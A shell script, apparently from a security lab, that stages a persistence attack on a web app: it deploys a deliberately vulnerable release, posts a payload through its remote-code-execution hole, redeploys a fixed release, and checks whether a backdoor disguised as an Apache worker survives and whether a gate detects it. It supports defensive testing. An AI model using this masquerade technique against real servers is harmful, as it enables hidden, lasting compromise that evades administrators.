#!/bin/sh
# Finding 1: a mod_wsgi daemon (the app user's code runs there) turns itself into another program in place: exec
# keeps its pid, its parent (Apache's root process) and its start time; named "apache2" (the link's basename)
# and shown as an Apache worker, it never answers mod_wsgi again, so no deploy restarts it.
# Needs: the lab (attack11/lab.py), the app's hole (release 1.1: POST /x runs what it is sent), then the clean
# release 1.2 deployed over it by the deploy login, as an admin would after learning of the hole.
# Usage: attack11/atk_masquerade.sh /tmp/atk11   (BASE=1: the code at main a8f5924; PAYLOAD=masquerade_noargv.py:
# the same with no argv at all)
set -eu
W=${1:-/tmp/atk11}; CT=$(cat $W/ct); HTTP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['http'])")
export DEPLOYTESTS_TARGETS=$W/targets.toml
FAB=/work/wt/attack11/.venv/bin/fab; if [ -n "${BASE:-}" ]; then export PYTHONPATH=$W/base; fi
echo "--- the deploy login deploys 1.1 (the hole):"
(cd $W/rce/yourapplication-1.1 && $FAB target dep pack deploy 2>&1 | grep -E "live:|FAILED|rolled back" | cut -c1-300)
echo "--- the attacker, through the hole, as the app user:"
curl -s -m 5 -o /dev/null -w 'HTTP %{http_code}\n' -X POST --data-binary @$(dirname $0)/${PAYLOAD:-masquerade.py} $HTTP/x || true
sleep 2
echo "--- the deploy login deploys the fixed 1.2:"
(cd $W/rce/yourapplication-1.2 && $FAB target dep pack deploy 2>&1 | grep -E "live:|FAILED|rolled back" | cut -c1-300)
sleep 6
echo "--- processes of the app user:"; docker exec $CT ps -o pid,ppid,user,comm,lstart,args -u yourapplication
echo "--- what root reads of them (exe, cwd, environ):"; docker exec $CT sh -c 'for p in $(pgrep -u yourapplication); do echo "$p $(readlink /proc/$p/exe) $(readlink /proc/$p/cwd) $(tr "\0" " " < /proc/$p/environ | cut -c1-60)"; done'
echo "--- /tmp/backdoor-alive (the backdoor's heartbeat, last line):"; docker exec $CT tail -1 /tmp/backdoor-alive
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - |^mod_wsgi daemons" | cut -c1-300 || true
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'for p in $(pgrep -u yourapplication); do case "$(readlink /proc/$p/exe)" in /usr/bin/python3*) kill -9 $p;; esac; done; rm -rf /tmp/backdoor-alive /tmp/.cache-* /tmp/.w-*'
